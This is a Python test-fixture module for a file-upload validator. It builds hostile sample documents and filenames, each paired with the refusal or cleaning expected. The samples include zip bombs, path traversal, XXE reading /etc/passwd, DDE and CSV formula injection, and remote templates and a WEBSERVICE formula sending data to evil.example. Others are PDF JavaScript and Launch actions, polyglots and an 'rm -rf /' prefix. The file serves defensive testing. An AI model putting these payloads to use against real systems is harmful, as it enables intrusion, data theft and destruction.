"""Files that must not be taken, or that lose what is hostile in them. Each names what its refusal must say."""

# ruff: noqa: E501  (a table: one file a line)

import gzip
import io
import random
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from . import building as make

KIND, MISMATCH, BOMB, MACROS = "Files of this kind", "not what the ending", "unpacks to far more", "macros or programs"
EMBEDDED, OUTSIDE, LOCKED = "embedded object", "load something from elsewhere", "password"
CHECKED, PIXELS, FORMULA = "cannot be checked", "too many pixels", "begins like a formula"
HTML = b"<!DOCTYPE html><html><script>alert(document.domain)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
LAUGHS = '<!DOCTYPE l [<!ENTITY a "ha">' + "".join(
    f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9)
) + "]>"  # fmt: skip


@dataclass(frozen=True)
class Hostile:
    name: str
    content: Callable[[], bytes]
    says: str


def bomb_of(size, name="word/media/zeros.bmp"):
    return make.docx((name, b"\0" * size))


def nested():
    inner = make.zipped([("zeros", b"\0" * 5_000_000)])
    return make.docx(("word/media/inner.dat", make.zipped([("again", inner)], zipfile.ZIP_STORED)))


def quine():
    """The shape of an archive that holds itself: a part that is an archive, under another name."""
    inner = make.docx()
    return make.docx(("word/media/r.dat", inner))


def symlink():
    link = zipfile.ZipInfo("word/media/link.xml")
    link.create_system, link.external_attr = 3, 0o120777 << 16
    return make.docx((link, "/etc/passwd"))


def twins():
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        for name, content in [*make.docx_parts(), ("WORD/document.xml", "<other/>")]:
            archive.writestr(name, content)
    return made.getvalue()


def lying(size):
    """The directory says that a part is short; it unpacks to far more."""
    honest = make.docx(("word/media/zeros.bmp", b"\0" * 30_000_000))
    return make.with_size(honest, b"word/media/zeros.bmp", size)


def two_readings():
    """The directory names a part other than the header before it."""
    content = make.docx(("word/media/one.bmp", "x"))
    return content.replace(b"word/media/one.bmp", b"word/media/two.bmp", 1)


def appended(content, more):
    return content + more


def pdf_in_zip():
    """A ZIP whose directory lies in a PDF, after which the PDF ends: each reader opens its own."""
    archive = make.zipped([("a.class", "x")])
    body = make.pdf(make.stream(archive))
    return body[: body.rindex(b"%%EOF")] + archive + b"%%EOF\n"


def animated():
    from PIL import Image

    frames = [Image.new("RGB", (20, 20), colour) for colour in ((255, 0, 0), (0, 255, 0))]
    made = io.BytesIO()
    frames[0].save(made, "PNG", save_all=True, append_images=frames[1:])
    return made.getvalue()


def dense_object_stream():
    return make.pdf(make.object_stream("<< /A (" + "a" * 30_000_000 + ") >>"))


REFUSED = [
    # --- pages, pictures that are pages, and names -------------------------------------------------------------------
    Hostile("page.html", lambda: HTML, KIND),
    Hostile("drawing.svg", lambda: SVG, KIND),
    Hostile("report.pdf.exe", lambda: b"MZ" + b"\0" * 100, KIND),
    Hostile("report.pdf\x00.exe", lambda: b"MZ", KIND),
    Hostile("report.pdf::$DATA", make.pdf, KIND),
    Hostile("macro.docm", make.docx, KIND),
    Hostile("old.doc", lambda: OLE, KIND),
    Hostile("shortcut.lnk", lambda: b"L\0\0\0", KIND),
    Hostile("archive.zip", lambda: make.zipped([("a", "b")]), KIND),
    Hostile("drawing.png", lambda: SVG, MISMATCH),
    Hostile("page.jpg", lambda: HTML, MISMATCH),
    Hostile("page.txt", lambda: HTML, MISMATCH),
    Hostile("drawing.csv", lambda: b"  \n" + SVG, MISMATCH),
    Hostile("utf16.txt", lambda: HTML.decode().encode("utf-16"), MISMATCH),
    Hostile("utf7.txt", lambda: b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-", MISMATCH),
    Hostile("nulls.txt", lambda: b"a\0b", MISMATCH),
    Hostile("latin.txt", lambda: "Genève".encode("latin-1"), "not in UTF-8"),
    Hostile("program.txt", lambda: b"MZ\x90\0\x03", "not in UTF-8"),
    Hostile("dde.csv", lambda: b"name,value\n=cmd|'/c calc'!A0,1\n", FORMULA),
    Hostile("link.csv", lambda: b'name;"@SUM(1+1)*cmd|\'/c calc\'!A0"\n', FORMULA),
    Hostile("plus.csv", lambda: b"a\t-2+3+cmd|'/c calc'!A0\n", FORMULA),
    # --- archives ----------------------------------------------------------------------------------------------------
    Hostile("flat-bomb.docx", lambda: bomb_of(20_000_000), BOMB),
    Hostile("wide-bomb.docx", lambda: make.docx(*[(f"word/media/{n}.bmp", bytes([n % 251]) * 60_000) for n in range(1900)]), BOMB),
    Hostile("nested-bomb.docx", nested, EMBEDDED),
    Hostile("holds-itself.docx", quine, EMBEDDED),
    Hostile("gzip-inside.docx", lambda: make.docx(("word/media/a.dat", gzip.compress(b"\0" * 100_000))), EMBEDDED),
    Hostile("5000-parts.docx", lambda: make.docx(*[(f"word/{n}.bmp", b"") for n in range(5000)]), BOMB),
    Hostile("slip.docx", lambda: make.docx(("../../etc/cron.d/x", "x")), CHECKED),
    Hostile("absolute.docx", lambda: make.docx(("/etc/passwd", "x")), CHECKED),
    Hostile("drive.docx", lambda: make.docx(("C:/Windows/x.ini", "x")), CHECKED),
    Hostile("backslash.docx", lambda: make.docx(("word\\..\\..\\x.ini", "x")), CHECKED),
    Hostile("symlink.docx", symlink, CHECKED),
    Hostile("twins.docx", twins, MISMATCH),
    Hostile("overlap.docx", lambda: make.overlapping(make.docx(("word/a.bmp", "x"), ("word/b.bmp", "x")), b"word/a.bmp", b"word/b.bmp"), MISMATCH),
    Hostile("lying.docx", lambda: lying(1000), BOMB),
    Hostile("two-readings.docx", two_readings, MISMATCH),
    Hostile("locked.docx", lambda: make.with_flag(make.docx(("word/a.bmp", "x")), b"word/a.bmp", 1), LOCKED),
    Hostile("prefixed.docx", lambda: make.prefixed(make.docx(), b"#!/bin/sh\nrm -rf /\n"), MISMATCH),
    Hostile("appended.docx", lambda: make.docx() + HTML, MISMATCH),
    Hostile("cut.docx", lambda: make.docx()[:-30], MISMATCH),
    # --- Office ------------------------------------------------------------------------------------------------------
    Hostile("encrypted.docx", lambda: OLE, "old Office file"),
    Hostile("docm-renamed.docx", lambda: make.docx(kind="application/vnd.ms-word.document.macroEnabled.main+xml"), MACROS),
    Hostile("macros.docx", lambda: make.docx(("word/vbaProject.bin", OLE)), MACROS),
    Hostile("hidden-macros.docx", lambda: make.docx(("word/font.dat", OLE), types='<Override PartName="/word/font.dat" ContentType="application/vnd.ms-office.vbaProject"/>'), MACROS),
    Hostile("macro-relation.docx", lambda: make.docx_linked("vbaProject", "x.dat", is_outside=False), MACROS),
    Hostile("ole.docx", lambda: make.docx(("word/embeddings/oleObject1.bin", OLE)), EMBEDDED),
    Hostile("ole-renamed.docx", lambda: make.docx(("word/media/image1.dat", OLE)), EMBEDDED),
    Hostile("activex.docx", lambda: make.docx(("word/activeX/activeX1.bin", b"x")), MACROS),
    Hostile("program-inside.docx", lambda: make.docx(("word/media/tool.dat", b"MZ\x90")), MACROS),
    Hostile("rtf-inside.docx", lambda: make.docx(("word/afchunk.dat", b"{\\rtf1 x}")), EMBEDDED),
    Hostile("page-inside.docx", lambda: make.docx_linked("aFChunk", "page.dat", is_outside=False), EMBEDDED),
    Hostile("remote-template.docx", lambda: make.docx_linked("attachedTemplate", "https://evil.example/t.dotm"), OUTSIDE),
    Hostile("share-template.docx", lambda: make.docx_linked("attachedTemplate", "file://evil.example/s/t.dotm"), OUTSIDE),
    Hostile("remote-picture.docx", lambda: make.docx_linked("image", "http://evil.example/1.png"), OUTSIDE),
    Hostile("remote-object.docx", lambda: make.docx_linked("oleObject", "http://evil.example/1.hta"), EMBEDDED),
    Hostile("script-link.docx", lambda: make.docx_linked("hyperlink", "javascript:alert(1)"), OUTSIDE),
    Hostile("program-link.docx", lambda: make.docx_linked("hyperlink", "ms-msdt:/id"), OUTSIDE),
    Hostile("share-link.docx", lambda: make.docx_linked("hyperlink", "\\\\evil.example\\share"), OUTSIDE),
    Hostile("frame.docx", lambda: make.docx_linked("frame", "http://evil.example/"), EMBEDDED),
    Hostile("dde.docx", lambda: make.docx(body=make.field(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe ")), OUTSIDE),
    Hostile("dde-cut.docx", lambda: make.docx(body=make.field(" DD", "EAU", "TO cmd")), OUTSIDE),
    Hostile("dde-simple.docx", lambda: make.docx(body='<w:fldSimple w:instr=" DDE cmd "/>'), OUTSIDE),
    Hostile("remote-text.docx", lambda: make.docx(body=make.field("INCLUDETEXT http://evil.example/")), OUTSIDE),
    Hostile("xxe.docx", lambda: make.docx(("word/a.xml", '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><x>&f;</x>')), CHECKED),
    Hostile("laughs.docx", lambda: make.docx(("word/a.xml", LAUGHS + "<l>&j;</l>")), CHECKED),
    Hostile("laughs-utf16.docx", lambda: make.docx(("word/a.xml", (LAUGHS + "<l>&j;</l>").encode("utf-16"))), CHECKED),
    Hostile("long-tag.docx", lambda: make.docx(("word/a.xml", '<a b="' + "0123456789abcdef" * 400_000 + '"/>')), BOMB),
    Hostile("long-tag-dense.docx", lambda: make.docx(("word/a.xml", f'<a b="{random.Random(1).randbytes(2_500_000).hex()}"/>')), CHECKED),
    Hostile("broken.docx", lambda: make.docx(("word/a.xml", "<a><b></a>")), MISMATCH),
    Hostile("decoy.docx", lambda: make.docx(("word/evil.dat", "x"), types=f'<Override PartName="/word/evil.dat" ContentType="{make.DOCUMENT}"/>'), MISMATCH),
    Hostile("sheet.docx", make.xlsx, MISMATCH),
    Hostile("macro-sheet.xlsx", lambda: make.xlsx(("xl/macrosheets/sheet1.xml", "<x/>")), MACROS),
    Hostile("remote-book.xlsx", lambda: make.xlsx(("xl/externalLinks/externalLink1.xml", "<x/>")), EMBEDDED),
    Hostile("dde.xlsx", lambda: make.xlsx(cells="<row><c><f>cmd|'/c calc'!A0</f></c></row>"), OUTSIDE),
    Hostile("webservice.xlsx", lambda: make.xlsx(cells='<row><c><f>WEBSERVICE("http://evil.example/"&amp;A1)</f></c></row>'), OUTSIDE),
    Hostile("binary.xlsx", lambda: make.xlsx(kind="application/vnd.ms-excel.sheet.binary.macroEnabled.main"), MACROS),
    # --- OpenDocument ------------------------------------------------------------------------------------------------
    Hostile("basic.odt", lambda: make.odf(("Basic/Standard/Module1.xml", "<x/>")), MACROS),
    Hostile("scripts.odt", lambda: make.odf(("Scripts/python/run.dat", "x")), MACROS),
    Hostile("listener.odt", lambda: make.odf(body='<script:event-listener xlink:href="vnd.sun.star.script:x"/>'), MACROS),
    Hostile("script-link.odt", lambda: make.odf(body='<text:a xlink:href="vnd.sun.star.script:x?language=Basic"/>'), MACROS),
    Hostile("remote-picture.odt", lambda: make.odf(body='<draw:image xlink:href="http://evil.example/1.png"/>'), OUTSIDE),
    Hostile("file-picture.odt", lambda: make.odf(body='<draw:image xlink:href="file:///etc/passwd"/>'), OUTSIDE),
    Hostile("above.odt", lambda: make.odf(body='<draw:object xlink:href="../../x"/>'), OUTSIDE),
    Hostile("section.odt", lambda: make.odf(body='<text:section-source xlink:href="x.odt"/>'), OUTSIDE),
    Hostile("ole.odt", lambda: make.odf(("Object 1", OLE), body='<draw:object-ole xlink:href="./Object 1"/>'), EMBEDDED),
    Hostile("dde.ods", lambda: make.odf(kind="spreadsheet", body="<table:dde-link/>"), OUTSIDE),
    Hostile("locked.odt", lambda: make.odf(manifest="<manifest:encryption-data/>"), LOCKED),
    Hostile("xxe.odt", lambda: make.odf(begin='<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>'), CHECKED),
    Hostile("text.ods", make.odf, MISMATCH),
    # --- PDF ---------------------------------------------------------------------------------------------------------
    Hostile("script.pdf", lambda: make.pdf("<< /S /JavaScript /JS (app.alert\\(1\\)) >>"), MACROS),
    Hostile("script-escaped.pdf", lambda: make.pdf("<< /S /J#61vaScr#69pt /J#53 (x) >>"), MACROS),
    Hostile("script-packed.pdf", lambda: make.pdf(make.object_stream("<< /S /JavaScript /JS (x) >>")), MACROS),
    Hostile("script-packed-oddly.pdf", lambda: make.pdf(make.object_stream("<< /JS (x) >>").replace(b"/FlateDecode", b"[/ASCIIHexDecode /FlateDecode]")), CHECKED),
    Hostile("launch.pdf", lambda: make.pdf("<< /S /Launch /F (cmd.exe) >>"), MACROS),
    Hostile("file-inside.pdf", lambda: make.pdf(make.stream(b"MZ", "/Type /EmbeddedFile")), EMBEDDED),
    Hostile("file-names.pdf", lambda: make.pdf(catalog="/Names << /EmbeddedFiles << >> >>"), EMBEDDED),
    Hostile("film.pdf", lambda: make.pdf("<< /Subtype /RichMedia >>"), MACROS),
    Hostile("acts.pdf", lambda: make.pdf(catalog="/AA << /WC 9 0 R >>"), MACROS),
    Hostile("forms.pdf", lambda: make.pdf(catalog="/AcroForm << /XFA 9 0 R >>"), MACROS),
    Hostile("sends.pdf", lambda: make.pdf("<< /S /SubmitForm /F (http://evil.example/) >>"), OUTSIDE),
    Hostile("opens-page.pdf", lambda: make.pdf(catalog="/OpenAction << /S /URI /URI (http://evil.example/) >>"), OUTSIDE),
    Hostile("opens-by-number.pdf", lambda: make.pdf("<< /S /URI /URI (http://evil.example/) >>", catalog="/OpenAction 4 0 R"), OUTSIDE),
    Hostile("opens-packed.pdf", lambda: make.pdf(make.object_stream("<< /S /URI /URI (http://evil.example/) >>"), catalog="/OpenAction 9 0 R"), OUTSIDE),
    Hostile("locked.pdf", lambda: make.pdf("<< /Filter /Standard >>", trailer="/Encrypt 4 0 R"), LOCKED),
    Hostile("bomb.pdf", dense_object_stream, BOMB),
    Hostile("html-before.pdf", lambda: HTML + make.pdf(), MISMATCH),
    Hostile("html-in-head.pdf", lambda: make.pdf().replace(b"%\xe2\xe3\xcf\xd3", b"%" + HTML, 1), MISMATCH),
    Hostile("html-after.pdf", lambda: make.pdf() + HTML, MISMATCH),
    Hostile("jar-after.pdf", lambda: make.pdf() + make.zipped([("a.class", "x")]), MISMATCH),
    Hostile("jar-within.pdf", pdf_in_zip, MISMATCH),
    # --- pictures ----------------------------------------------------------------------------------------------------
    Hostile("flood.png", lambda: make.png(30_000, 30_000, rows=b"\0" * 30_001), PIXELS),
    Hostile("long.png", lambda: make.png(100_000, 10, rows=b"\0" * 100), PIXELS),
    Hostile("empty.png", lambda: make.png(0, 0, rows=b""), MISMATCH),
    Hostile("cut.png", lambda: make.drawn("PNG", (400, 300))[:200], MISMATCH),
    Hostile("few-rows.png", lambda: make.png(4000, 3000, rows=b"\0" * 100), MISMATCH),
    Hostile("text-bomb.png", lambda: make.png(extra=make.chunk(b"zTXt", b"k\0\0" + zlib.compress(b"\0" * 30_000_000, 9))), MISMATCH),
    Hostile("gif.png", lambda: make.drawn("GIF", mode="L", colour=3), MISMATCH),
    Hostile("picture.jpg", lambda: make.drawn("PNG"), MISMATCH),
    Hostile("cut.jpg", lambda: make.drawn("JPEG", (400, 300))[:300], MISMATCH),
    Hostile("only-head.jpg", lambda: b"\xff\xd8\xff\xe0" + HTML, MISMATCH),
]  # fmt: skip

NEUTRALISED = {  # taken, and what of them must not be in what is kept
    "html-after.png": (lambda: make.drawn("PNG") + HTML, [b"script", b"html"]),
    "html-in-text.png": (lambda: make.png(extra=make.chunk(b"tEXt", b"Comment\0" + HTML)), [b"script"]),
    "zip-after.png": (lambda: make.drawn("PNG") + make.docx(), [b"PK\x03\x04", b"PK\x05\x06"]),
    "html-after.jpg": (lambda: make.drawn("JPEG") + HTML, [b"script", b"html"]),
    "html-in-comment.jpg": (lambda: make.drawn("JPEG", comment=HTML), [b"script", b"html"]),
    "place.jpg": (make.with_place, [b"Exif", b"PLANTED", b"2026:01:01"]),
    "profile.png": (lambda: make.drawn("PNG", icc_profile=b"PLANTED" * 100), [b"iCCP", b"PLANTED"]),
    "animated.png": (animated, [b"acTL", b"fdAT"]),
}
NAMES = {  # as it is sent, and as it is kept
    "x\u202efdp.txt": "xfdp.txt",
    "a" * 300 + ".txt": "a" * 150 + ".txt",
    "CON.txt": "_CON.txt",
    "nul.old.txt": "_nul.old.txt",
    "../../../etc/cron.d/a.txt": "a.txt",
    "C:\\Windows\\system32\\a.txt": "a.txt",
    "a\r\nContent-Type: text%2fhtml.txt": "aContent-Type_ text_2fhtml.txt",
    '"><script>.txt': "_script_.txt",
    "report.exe.txt": "report.exe.txt",
    ".htaccess.txt": "htaccess.txt",
}
